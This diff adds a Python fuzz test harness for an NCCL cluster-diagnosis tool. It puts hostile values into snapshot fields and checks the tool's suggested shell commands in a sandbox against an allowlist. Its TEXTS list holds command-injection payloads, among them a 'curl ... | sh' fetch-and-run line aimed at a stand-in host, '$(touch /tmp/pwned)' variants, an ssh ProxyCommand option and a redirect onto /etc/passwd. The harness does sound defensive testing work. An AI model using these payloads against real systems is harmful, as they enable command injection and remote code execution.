@@ -1,0 +1,271 @@
+"""Snapshots of broken clusters in which liars replaced facts: judged, shown, and every command tried in a real shell.
+
+``python -m tests.hostile.snapshots --runs 1000 --seed 1`` (as root, for chroot) prints what came of them.
+"""
+
+from __future__ import annotations
+
+import argparse
+import copy
+import json
+import random
+import re
+import shlex
+import sys
+import tempfile
+from collections import Counter
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from pydantic import ValidationError
+
+from nccl_doctor.diagnose import judge
+from nccl_doctor.model import Command, Outcome, Report
+from nccl_doctor.report.render import RenderOptions, render
+from nccl_doctor.snapshot import Snapshot
+from tests.checks.snapshots import load
+from tests.hostile.shell_without_programs import ShellWithoutPrograms
+
+FIXTURES = sorted((Path(__file__).parents[1] / "checks").glob("*/*/fires*.json"))
+STRANGER = "203.0.113.66"
+"""An address that liars claim and nothing confirms."""
+
+TEXTS = (
+    "8080 ; curl http://x.example/i | sh ; 1",
+    "$(touch /tmp/pwned)",
+    "`touch /tmp/pwned`",
+    "a'; touch /tmp/pwned; '",
+    'a"; touch /tmp/pwned; "',
+    "a\ntouch /tmp/pwned\n",
+    "a\rtouch /tmp/pwned",
+    "\x1b]0;title\x07\x1b[2J",
+    "\u202egnp.exe",
+    "\udc80\ud800",
+    "-oProxyCommand=touch /tmp/pwned",
+    "--config=/tmp/pwned",
+    "> /etc/passwd",
+    "{ flush ruleset }",
+    "6.6.6.6 a.example b.example",
+    f"{STRANGER}",
+    f"{STRANGER}/0",
+    "0.0.0.0/0",
+    "::",
+    "fe80::1%$(id)",
+    "*",
+    "~root/.ssh/authorized_keys",
+    "=ls",
+    "!!",
+    "\\",
+    "\0",
+    "{0.__class__}",
+    "%s%n",
+    "Infinity",
+    "2.²",
+    "",
+    "a" * 70_000,
+)
+NUMBERS = (-1, 0, 1, 65536, 2**31, 2**63, 10**400, -(10**400), 1.5, float("nan"), float("inf"), -0.0, 1e308)
+OTHERS: tuple[Any, ...] = (None, True, False, [], {}, [[]], {"a": {"b": [1]}}, [None], {"$unknown": "a\nb"}, {"": ""})
+
+PROGRAMS = {
+    "export": r"(NCCL|GLOO)_SOCKET_IFNAME==?[\w.:@-]+",
+    "eval": r"",
+    "ssh-agent": r"-s",
+    "ssh-add": r"[^-].*",
+    "ssh-copy-id": r"-p \d+ -i \S.* \S+@\S+",
+    "install": r"-d -m 700 /.*",
+    "printf": r"(%s\\n( \S+ [a-z0-9@.-]+ [A-Za-z0-9+/=]+)+|%s %s\\n [0-9a-f.:]+ [\w.-]+)",
+    "nccl-doctor": r"fix-port( --hosts [^-].*)?( --host [^-]\S*)?( \d+)?( --pid \d+)? --kill --yes|(check|ifname) -w \S+"
+    r"|ifname|fix-port( \d+)?",
+    "sysctl": r"-w( net\.ipv4\.(ip_local_port_range=15000 65000|ip_local_reserved_ports=[\d,-]+"
+    r"|neigh\.default\.gc_thresh\d=\d+))+",
+    "mount": r"-o remount,size=\d+g /dev/shm",
+    "systemctl": r"enable --now nvidia-fabricmanager",
+    "modprobe": r"nvidia_peermem",
+    "firewall-cmd": r"--reload|(--permanent )?--zone=[\w/-]+ (--add-source=[0-9a-f.:/]+|--add-rich-rule=rule family=\"ipv"
+    r"[46]\" source address=\"[0-9a-f.:/]+\" port port=\"[\d-]+\" protocol=\"tcp\" accept)",
+    "ufw": r"(prepend )?allow (out )?proto tcp from (any|[0-9a-f.:/]+) to (any|[0-9a-f.:/]+) port [\d,:]+",
+    "nft": r"(list chain|insert rule) \w+ [\w./-]+ [\w./-]+( (ip|ip6) [sd]addr \{ [0-9a-f.:/, ]+ \} tcp dport "
+    r"\{ [\d, -]+ \} accept comment \"nccl-doctor [0-9a-f]{8}\")?",
+    "grep": r"-qF nccl-doctor [0-9a-f]{8}",
+    **dict.fromkeys(
+        [f"ip{six}tables{end}" for six in ("", "6") for end in ("", "-legacy", "-nft")],
+        r"-w (-t \w+ )?-[CI] [A-Z]+ -[sd] [0-9a-f.:/]+ -p tcp -m multiport --dports [\d,:]+ -j ACCEPT",
+    ),
+}
+"""What each program that we print may be told, its arguments joined by blanks."""
+
+OPERATORS = {"|", "||", ">>", "2>/dev/null"}
+
+
+@dataclass
+class Result:
+    """What came of many runs; ``faults`` is empty where all is well."""
+
+    refused: int = 0
+    judged: int = 0
+    commands: int = 0
+    outcomes: Counter[str] = field(default_factory=Counter)
+    faults: list[str] = field(default_factory=list)
+
+
+def run(runs: int, seed: int, root: Path) -> Result:
+    """Makes, judges and tries so many snapshots; the same seed gives the same ones."""
+    chance = random.Random(seed)
+    shell = ShellWithoutPrograms(root)
+    documents = [json.loads(load(path).model_dump_json(by_alias=True)) for path in FIXTURES]
+    pasted = [i for i, one in enumerate(documents) if [*_commands(judge(Snapshot.model_validate(one), "check"))]]
+    tried: dict[str, str | None] = {}
+    result = Result()
+    for number in range(runs):
+        index = chance.choice(pasted if chance.random() < 0.5 else range(len(documents)))
+        document = copy.deepcopy(documents[index])
+        places = _replaced(document, chance)
+        where = f"run {number}, {FIXTURES[index].parent.name}/{FIXTURES[index].stem}, {', '.join(places)}"
+        snapshot = _at_the_door(document)
+        if snapshot is None:
+            result.refused += 1
+            continue
+        result.judged += 1
+        try:
+            report = judge(snapshot, "check")
+            for form in ("human", "json", "junit", "prometheus"):
+                render("check", form, report, RenderOptions(verbose=True))
+        except Exception as error:  # noqa: BLE001 - each is a fault to be told, and the others go on
+            result.faults.append(f"{where}: {type(error).__name__}: {error}")
+            continue
+        result.outcomes.update(check.outcome.value for check in report.checks)
+        result.faults += [f"{where}: {c.name}: {c.reason}" for c in report.checks if c.outcome is Outcome.CRASH]
+        for command in _commands(report):
+            result.commands += 1
+            if command.command not in tried:
+                tried[command.command] = _wrong(command.command, shell, document)
+            wrong = tried[command.command] or _of_a_stranger(command, places)
+            if wrong:
+                result.faults.append(f"{where}: {command.command!r}: {wrong}")
+    return result
+
+
+def _at_the_door(document: dict[str, Any]) -> Snapshot | None:
+    """The snapshot, with what is malformed unknown, fact by fact, as a live run has it; None where more is broken."""
+    for _ in range(8):
+        try:
+            return Snapshot.model_validate(document)
+        except ValidationError as error:
+            for one in error.errors(include_url=False, include_context=False, include_input=False):
+                match one["loc"]:
+                    case ("hosts", int(index), "facts", str(fact), *_):
+                        document["hosts"][index]["facts"][fact] = {"$unknown": "malformed"}
+                    case ("mesh" | "smoke" as phase, *_):
+                        document[phase] = {"$unknown": "malformed"}
+                    case _:
+                        return None
+    return None
+
+
+def _commands(report: Report) -> Iterator[Command]:
+    for diagnosis in report.diagnoses:
+        yield from diagnosis.fix.commands
+
+
+def _of_a_stranger(command: Command, places: list[str]) -> str | None:
+    """A claimed address in a command; only the host that claims it may have it in its own."""
+    if STRANGER not in command.command or any(place.startswith(f"{command.host}.") for place in places):
+        return None
+    return "an address that nothing confirms"
+
+
+def _wrong(line: str, shell: ShellWithoutPrograms, document: dict[str, Any]) -> str | None:
+    """What a line does besides what it says; None for nothing."""
+    expected, files = _says(line)
+    told = shell.attempt(line, tuple(str(Path(file).parent) for file in files))
+    if sorted(told.ran) != sorted(expected):
+        return f"attempts {told.ran}, says {expected}"
+    if set(told.wrote) - {"/dev/null"} != set(files):
+        return f"writes {told.wrote}, says {files}"
+    known = {host["failure"]["facts"].get("known_hosts") for host in document["hosts"] if host["failure"]}
+    if set(files) - {"/etc/hosts"} - known:
+        return f"writes to {files}"
+    for name, *arguments in told.ran:
+        if name not in PROGRAMS or not re.fullmatch(PROGRAMS[name], " ".join(arguments), re.ASCII | re.DOTALL):
+            return f"is no command of ours: {name} {arguments}"
+    return None
+
+
+def _says(line: str) -> tuple[list[tuple[str, ...]], list[str]]:
+    """The commands and the files of a line, read by another parser than the shell's."""
+    if line == 'eval "$(ssh-agent -s)"':
+        return [("eval", ""), ("ssh-agent", "-s")], []
+    commands: list[list[str]] = [[]]
+    files: list[str] = []
+    words = iter(shlex.split(line))
+    for word in words:
+        if word == ">>":
+            files.append(next(words))
+        elif word in ("|", "||"):
+            commands.append([])
+        elif word != "2>/dev/null":
+            commands[-1].append(word)
+    return [tuple(command) for command in commands], files
+
+
+def _replaced(document: dict[str, Any], chance: random.Random) -> list[str]:
+    """Puts hostile values in place of one to six facts; returns where."""
+    places = [place for place in _leaves(document) if place[0][0] in ("hosts", "mesh", "smoke")]
+    chosen = [place for place in chance.sample(places, min(len(places), 60)) if _told_by_a_host(place[0])]
+    done = []
+    for path, owner, key in chosen[: chance.randint(1, 6)]:
+        owner[key] = _hostile(owner[key], chance)
+        host = document["hosts"][path[1]]["node"]["name"] if path[0] == "hosts" else path[0]
+        done.append(f"{host}.{'.'.join(map(str, path[2 if path[0] == 'hosts' else 1 :]))}={str(owner[key])[:40]!r}")
+    return done
+
+
+def _told_by_a_host(path: tuple[Any, ...]) -> bool:
+    """Not what the user wrote, nor what this machine itself found out."""
+    return not (path[0] == "hosts" and path[2] == "node") and path[:2] != ("mesh", "answered")
+
+
+def _hostile(value: Any, chance: random.Random) -> Any:
+    """Mostly of the same type: what differs in type seldom passes the door."""
+    if chance.random() < 0.1:
+        return chance.choice(OTHERS)
+    if isinstance(value, str) or (value is None and chance.random() < 0.5):
+        return chance.choice(TEXTS)
+    if isinstance(value, bool):
+        return not value
+    if isinstance(value, (int, float)):
+        return chance.choice(NUMBERS)
+    return chance.choice((*OTHERS, *TEXTS, *NUMBERS))
+
+
+def _leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any, Any]]:
+    """Every place in a document that holds no list or object, and the empty ones."""
+    items = value.items() if isinstance(value, dict) else enumerate(value)
+    for key, inner in list(items):
+        if isinstance(inner, (dict, list)) and inner:
+            yield from _leaves(inner, (*path, key))
+        else:
+            yield (*path, key), value, key
+
+
+def main() -> int:
+    """Runs them, prints the figures; status 1 where a fault was found."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--runs", type=int, default=1000)
+    parser.add_argument("--seed", type=int, default=1)
+    given = parser.parse_args()
+    with tempfile.TemporaryDirectory() as folder:
+        result = run(given.runs, given.seed, Path(folder))
+    sys.stdout.write(
+        f"{given.runs} snapshots: {result.refused} refused at the door, {result.judged} judged, {result.commands} "
+        f"commands tried, outcomes {dict(result.outcomes)}, {len(result.faults)} faults\n"
+    )
+    sys.stdout.writelines(f"{fault[:1500]}\n" for fault in result.faults)
+    return 1 if result.faults else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
